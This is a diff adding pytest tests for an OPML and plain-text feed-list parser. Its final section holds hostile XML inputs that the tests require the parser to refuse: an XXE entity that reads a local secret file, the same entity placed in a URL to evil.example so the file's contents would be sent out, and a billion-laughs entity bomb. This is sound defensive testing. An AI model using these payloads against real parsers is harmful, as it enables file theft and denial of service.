@@ -1,0 +1,154 @@
+"""ingest.documents.feedlists.parse_feed_list, behind `ingest feeds import`: OPML at any depth
+or one URL a line, duplicates dropped, and an untrusted OPML never expands entities or reads
+files."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from ingest.documents.feedlists import FeedListError, parse_feed_list
+
+F1 = "https://one.example/feed/"
+F2 = "https://two.example/rss.xml"
+F3 = "http://three.example/atom"
+F4 = "https://four.example/index.xml"
+
+NESTED_OPML = f"""<?xml version="1.0" encoding="UTF-8"?>
+<opml version="2.0">
+  <head><title>My subscriptions</title></head>
+  <body>
+    <outline text="News" title="News">
+      <outline type="rss" text="One" xmlUrl="{F1}" htmlUrl="https://one.example/"/>
+      <outline text="World">
+        <outline type="rss" text="Two" xmlUrl="{F2}"/>
+        <outline text="Deeper"><outline type="rss" text="Three" xmlUrl="{F3}"/></outline>
+      </outline>
+    </outline>
+    <outline text="A folder with no feeds"/>
+    <outline type="rss" text="Four" xmlurl="{F4}"/>
+  </body>
+</opml>
+"""
+
+
+@pytest.mark.parametrize(
+    ("data", "expected"),
+    [
+        pytest.param(NESTED_OPML.encode(), [F1, F2, F3, F4], id="opml-nested"),
+        pytest.param(b"\xef\xbb\xbf" + NESTED_OPML.encode(), [F1, F2, F3, F4], id="opml-with-bom"),
+        pytest.param(
+            f'<opml version="1.0"><body><outline xmlUrl=" {F1} "/></body></opml>'.encode(),
+            [F1],
+            id="opml-no-declaration-url-stripped",
+        ),
+        pytest.param(
+            f'<opml><body><outline xmlUrl="{F1}"/><outline xmlUrl="{F2}"/>'
+            f'<outline text="x"><outline xmlUrl="{F1}"/></outline></body></opml>'.encode(),
+            [F1, F2],
+            id="opml-duplicates",
+        ),
+        pytest.param(
+            b'<?xml version="1.0"?><opml version="2.0"><body/></opml>', [], id="opml-empty"
+        ),
+        pytest.param(f"{F1}\n{F2}\n{F3}\n".encode(), [F1, F2, F3], id="lines"),
+        pytest.param(
+            f"# my feeds\n\n{F1}\n   \n  {F2}  \n# {F4}\n\n{F3}".encode(),
+            [F1, F2, F3],
+            id="lines-comments-blanks-spaces",
+        ),
+        pytest.param(f"{F1}\r\n{F2}\r\n".encode(), [F1, F2], id="lines-crlf"),
+        pytest.param(b"\xef\xbb\xbf" + f"{F1}\n{F2}\n".encode(), [F1, F2], id="lines-bom"),
+        pytest.param(f"{F2}\n{F1}\n{F2}\n{F1}\n".encode(), [F2, F1], id="lines-duplicates"),
+        pytest.param(b"", [], id="empty-file"),
+        pytest.param(b"\n# nothing here\n\n", [], id="only-comments"),
+    ],
+)
+def test_parse_feed_list(data: bytes, expected: list[str]) -> None:
+    """Feed URLs in file order, each once, from OPML outlines at any depth or from lines."""
+    assert parse_feed_list(data) == expected
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        pytest.param(b'<?xml version="1.0"?><opml><body><outline xmlUrl="x">', id="truncated"),
+        pytest.param(b"<opml><body><outline></body></opml>", id="mismatched-tags"),
+        pytest.param(b'<?xml version="1.0"?>\n', id="declaration-only"),
+        pytest.param(b'<opml><body><outline xmlUrl="a" xmlUrl="b"/></body></opml>', id="dup-attr"),
+    ],
+)
+def test_invalid_opml_raises(data: bytes) -> None:
+    """A file that looks like OPML but is not well-formed XML is a FeedListError."""
+    with pytest.raises(FeedListError, match="not a valid OPML file"):
+        parse_feed_list(data)
+
+
+# --- hostile OPML ----------------------------------------------------------------------------
+
+SECRET = "TOP-SECRET-7f3a9c"
+
+
+@pytest.fixture
+def secret_file(tmp_path: Path) -> Path:
+    path = tmp_path / "secret.txt"
+    path.write_text(SECRET, encoding="utf-8")
+    return path
+
+
+def test_external_entity_in_text_is_not_read(secret_file: Path) -> None:
+    """An external entity used in element text is neither fetched nor expanded: the feeds are
+    listed and the file's content appears nowhere."""
+    data = f"""<?xml version="1.0"?>
+<!DOCTYPE opml [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>
+<opml version="2.0"><head><title>&xxe;</title></head><body>
+<outline text="One" xmlUrl="{F1}">&xxe;</outline>
+<outline text="Two" xmlUrl="{F2}"/>
+</body></opml>""".encode()
+    urls = parse_feed_list(data)
+    assert urls == [F1, F2]
+    assert not any(SECRET in u for u in urls)
+
+
+def test_external_entity_in_url_is_refused(secret_file: Path) -> None:
+    """An external entity inside an attribute (the URL itself) is not well-formed XML: refused,
+    never read."""
+    data = f"""<?xml version="1.0"?>
+<!DOCTYPE opml [<!ENTITY xxe SYSTEM "{secret_file.as_uri()}">]>
+<opml version="2.0"><body><outline xmlUrl="https://evil.example/?q=&xxe;"/></body></opml>
+""".encode()
+    with pytest.raises(FeedListError) as info:
+        parse_feed_list(data)
+    assert SECRET not in str(info.value)
+
+
+def _billion_laughs(where: str) -> bytes:
+    entities = ['<!ENTITY lol0 "lol">'] + [
+        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
+    ]
+    title = "&lol9;" if where == "text" else "t"
+    url = f"{F1}?x=&lol9;" if where == "attribute" else F1
+    return (
+        '<?xml version="1.0"?>\n<!DOCTYPE opml [\n'
+        + "\n".join(entities)
+        + f'\n]>\n<opml version="2.0"><head><title>{title}</title></head>'
+        f'<body><outline xmlUrl="{url}"/><outline xmlUrl="{F2}"/></body></opml>'
+    ).encode()
+
+
+@pytest.mark.parametrize("where", ["text", "attribute"])
+def test_billion_laughs_not_expanded(where: str) -> None:
+    """Nested entities (10**9 "lol"s when expanded) are refused (one short FeedListError) or
+    left unexpanded: nothing explodes in size."""
+    outcome: list[str] | str
+    try:
+        outcome = parse_feed_list(_billion_laughs(where))
+    except FeedListError as e:
+        outcome = str(e)
+    if isinstance(outcome, str):
+        assert outcome.startswith("not a valid OPML file")
+        assert len(outcome) < 1000
+    else:
+        assert all(len(u) < 1000 for u in outcome)
+        assert F2 in outcome
